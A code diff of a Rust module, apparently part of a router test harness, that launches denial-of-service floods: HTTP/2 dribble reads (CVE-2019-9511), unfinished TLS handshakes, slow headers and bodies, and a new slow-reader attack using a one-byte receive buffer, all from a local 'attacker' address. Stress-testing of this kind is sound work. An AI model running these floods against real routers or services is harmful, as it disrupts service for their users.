@@ -1,9 +1,9 @@
 //! Who floods a router: a process of its own, which sends what it has made before, and as fast as it is let.
 
 use std::{
-    io::{Read, Write},
+    io::{BufRead, BufReader, Read, Write},
     net::{IpAddr, Ipv4Addr, Shutdown, SocketAddr, TcpStream},
-    process::{Child, Stdio},
+    process::{Child, ChildStdout, Stdio},
     sync::{
         Arc,
         atomic::{AtomicU64, Ordering::Relaxed},
@@ -25,9 +25,11 @@ use crate::proxies::{HTTP, HTTPS};
 /// The host that floods ask for.
 pub(crate) const HOST: &str = "app.home.example";
 const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 6, 6, 6);
-/// That are held open by one who sends slowly, and how often any of them sends a byte.
-const SLOW: usize = 250;
+/// Connections of one who is slow, for each of another one, and how often any of them sends or takes a byte.
+const SLOW: usize = 4;
 const DRIP: Duration = Duration::from_millis(1);
+/// Answers that nobody takes: more than the kernel does.
+const UNREAD: usize = 50;
 
 pub(crate) struct Attack {
     pub(crate) name: &'static str,
@@ -43,8 +45,10 @@ enum Way {
     UntilAnswered(Vec<u8>),
     /// The same, each until it is sent.
     UntilSent(Vec<u8>),
-    /// Begins with this on many connections, and goes on by a byte now and then.
-    Drip(&'static str),
+    /// Begins with this on many connections, and goes on by a byte of one of them now and then.
+    Drip(String),
+    /// The same, but takes a byte.
+    Sip(String),
 }
 
 impl Attack {
@@ -60,8 +64,9 @@ impl Attack {
         let others = [
             ("answers taken by the byte (CVE-2019-9511)", Way::UntilSent(dribble())),
             ("TLS handshakes that are not finished", Way::UntilAnswered(client_hello())),
-            ("slow heads", Way::Drip("GET / HTTP/1.1\r\nHost: app.home.example\r\nX: ")),
-            ("slow bodies", Way::Drip("POST / HTTP/1.1\r\nHost: app.home.example\r\nContent-Length: 100000\r\n\r\n")),
+            ("slow heads", Way::Drip(format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nX: "))),
+            ("slow bodies", Way::Drip(format!("POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n"))),
+            ("slow readers", Way::Sip(format!("GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n").repeat(UNREAD))),
         ];
         http2.chain(others.map(|(name, way)| Self { name, way })).collect()
     }
@@ -70,14 +75,27 @@ impl Attack {
         Self::all().into_iter().chain([Self::none()]).find(|it| it.name == name)
     }
 
-    /// On as many connections at once, until its input ends.
+    /// On as many connections at once, until its input ends. Says when it has begun, and in the end how often it has
+    /// attacked: connections that are over, or bytes of those that are slow.
     pub(crate) fn run(self, router: IpAddr, at_once: usize) {
         let port = if matches!(self.way, Way::UntilAnswered(_)) { HTTPS } else { HTTP };
-        let (way, done) = (Arc::new(self.way), Arc::new(AtomicU64::new(0)));
-        for _ in 0..at_once {
-            let (way, done) = (Arc::clone(&way), Arc::clone(&done));
-            thread::spawn(move || way.follow(SocketAddr::from((router, port)), &done));
+        let router = SocketAddr::from((router, port));
+        let done = Arc::new(AtomicU64::new(0));
+        match self.way {
+            way @ (Way::Drip(_) | Way::Sip(_)) => {
+                let mut slow = way.open(router, at_once * SLOW);
+                let done = Arc::clone(&done);
+                thread::spawn(move || way.go_on(router, &mut slow, &done));
+            }
+            way => {
+                let way = Arc::new(way);
+                for _ in 0..at_once {
+                    let (way, done) = (Arc::clone(&way), Arc::clone(&done));
+                    thread::spawn(move || way.follow(router, &done));
+                }
+            }
         }
+        println!("begun");
         let _ = std::io::stdin().read(&mut [0]);
         println!("{}", done.load(Relaxed));
     }
@@ -85,22 +103,50 @@ impl Attack {
 
 impl Way {
     fn follow(&self, router: SocketAddr, done: &AtomicU64) {
-        match self {
-            Self::Spin => loop {
-                std::hint::spin_loop();
-            },
-            Self::Drip(head) => drip(router, head, done),
-            Self::UntilCut(_) | Self::UntilAnswered(_) | Self::UntilSent(_) => loop {
-                // What is cut in the middle takes no more bytes, and a router may refuse a connection, too.
-                let _ = self.once(router);
-                done.fetch_add(1, Relaxed);
-            },
+        loop {
+            match self {
+                Self::Spin => std::hint::spin_loop(),
+                _ => {
+                    // What is cut in the middle takes no more bytes, and a router may refuse a connection, too.
+                    let _ = self.once(router);
+                    done.fetch_add(1, Relaxed);
+                }
+            }
+        }
+    }
+
+    /// As many connections as one who is slow holds.
+    fn open(&self, router: SocketAddr, count: usize) -> Vec<Option<TcpStream>> {
+        (0..count).map(|_| self.begin(router).ok()).collect()
+    }
+
+    fn begin(&self, router: SocketAddr) -> std::io::Result<TcpStream> {
+        let (Self::Drip(first) | Self::Sip(first)) = self else { return Err(std::io::ErrorKind::InvalidInput.into()) };
+        let mut stream = connect(router, matches!(self, Self::Sip(_)))?;
+        stream.write_all(first.as_bytes())?;
+        Ok(stream)
+    }
+
+    fn go_on(&self, router: SocketAddr, slow: &mut [Option<TcpStream>], done: &AtomicU64) {
+        loop {
+            for stream in &mut *slow {
+                let is_open = stream.as_mut().is_some_and(|stream| match self {
+                    Self::Sip(_) => stream.read_exact(&mut [0]).is_ok(),
+                    _ => stream.write_all(b"x").is_ok(),
+                });
+                if is_open {
+                    done.fetch_add(1, Relaxed);
+                } else {
+                    *stream = self.begin(router).ok();
+                }
+                thread::sleep(DRIP);
+            }
         }
     }
 
     fn once(&self, router: SocketAddr) -> std::io::Result<()> {
         let (Self::UntilCut(bytes) | Self::UntilAnswered(bytes) | Self::UntilSent(bytes)) = self else { return Ok(()) };
-        let mut stream = connect(router)?;
+        let mut stream = connect(router, false)?;
         let sent = stream.write_all(bytes);
         let mut answer = [0; 16 << 10];
         match self {
@@ -113,30 +159,15 @@ impl Way {
 }
 
 /// From an address of its own: what one client has too much of, others may have.
-fn connect(router: SocketAddr) -> std::io::Result<TcpStream> {
+fn connect(router: SocketAddr, is_narrow: bool) -> std::io::Result<TcpStream> {
     let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
+    if is_narrow {
+        // The least that there is.
+        socket.set_recv_buffer_size(1)?;
+    }
     socket.bind(&SocketAddr::from((ATTACKER, 0)).into())?;
     socket.connect(&router.into())?;
     Ok(socket.into())
-}
-
-fn drip(router: SocketAddr, head: &str, done: &AtomicU64) {
-    let open = || {
-        let mut stream = connect(router).ok()?;
-        stream.write_all(head.as_bytes()).ok()?;
-        Some(stream)
-    };
-    let mut streams: Vec<Option<TcpStream>> = (0..SLOW).map(|_| open()).collect();
-    loop {
-        for stream in &mut streams {
-            let is_taken = stream.as_mut().is_some_and(|stream| stream.write_all(b"x").is_ok());
-            if !is_taken {
-                done.fetch_add(1, Relaxed);
-                *stream = open();
-            }
-            thread::sleep(DRIP);
-        }
-    }
 }
 
 /// A hundred answers of which each byte is asked for by a frame.
@@ -166,10 +197,14 @@ fn client_hello() -> Vec<u8> {
 }
 
 /// A process that attacks until it is asked how often it has.
-pub(crate) struct Attacker(Child);
+pub(crate) struct Attacker {
+    child: Child,
+    says: BufReader<ChildStdout>,
+}
 
 impl Attacker {
-    /// On the router's core, of which it gets what the router leaves: what it does itself delays nobody.
+    /// On the router's core, of which it gets what the router leaves: what it does itself delays nobody. Who is slow
+    /// has opened all connections when this returns: to open them is another attack.
     pub(crate) fn start(attack: &Attack, router: IpAddr, at_once: usize) -> Self {
         let program = std::env::current_exe().expect("it runs");
         let router = router.to_string();
@@ -177,18 +212,18 @@ impl Attacker {
         let arguments =
             ["-i", "0", &program.to_string_lossy(), "flood", attack.name, &router, &at_once].map(Into::into);
         let mut command = pinned("chrt", &arguments);
-        let child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn();
-        Self(child.expect("chrt starts"))
+        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("chrt starts");
+        let mut says = BufReader::new(child.stdout.take().expect("it was piped"));
+        says.read_line(&mut String::new()).expect("it says that it has begun");
+        Self { child, says }
     }
 
-    /// The connections that it has had.
+    /// How often it has attacked.
     pub(crate) fn end(mut self) -> u64 {
-        drop(self.0.stdin.take());
+        drop(self.child.stdin.take());
         let mut said = String::new();
-        if let Some(mut output) = self.0.stdout.take() {
-            let _ = output.read_to_string(&mut said);
-        }
-        let _ = self.0.wait();
+        let _ = self.says.read_to_string(&mut said);
+        let _ = self.child.wait();
         said.trim().parse().unwrap_or_default()
     }
 }
